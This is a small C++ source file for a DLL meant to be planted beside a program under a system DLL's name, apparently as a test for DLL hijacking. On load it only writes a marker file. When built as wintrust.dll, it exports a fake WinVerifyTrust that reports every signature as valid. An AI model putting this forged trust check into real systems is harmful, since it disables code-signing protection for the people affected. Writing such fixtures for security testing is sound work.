// A DLL planted beside a program under the name of a system DLL. Once loaded it
// leaves a marker file beside itself (its own path + ".loaded"); as wintrust.dll
// it also answers "valid" to every signature check.
#include <windows.h>

BOOL WINAPI DllMain(HINSTANCE self, DWORD reason, LPVOID)
{
    if (reason != DLL_PROCESS_ATTACH) return TRUE;
    wchar_t marker[MAX_PATH + 16];
    DWORD length = GetModuleFileNameW(self, marker, MAX_PATH);
    if (length == 0 || length >= MAX_PATH) return TRUE;
    lstrcatW(marker, L".loaded");
    HANDLE file = CreateFileW(marker, GENERIC_WRITE, 0, nullptr, CREATE_ALWAYS, FILE_ATTRIBUTE_NORMAL, nullptr);
    if (file != INVALID_HANDLE_VALUE) CloseHandle(file);
    return TRUE;
}

#ifdef PLANTED_WINTRUST
extern "C" __declspec(dllexport) LONG WINAPI WinVerifyTrust(HWND, GUID*, LPVOID) { return 0; }
#endif
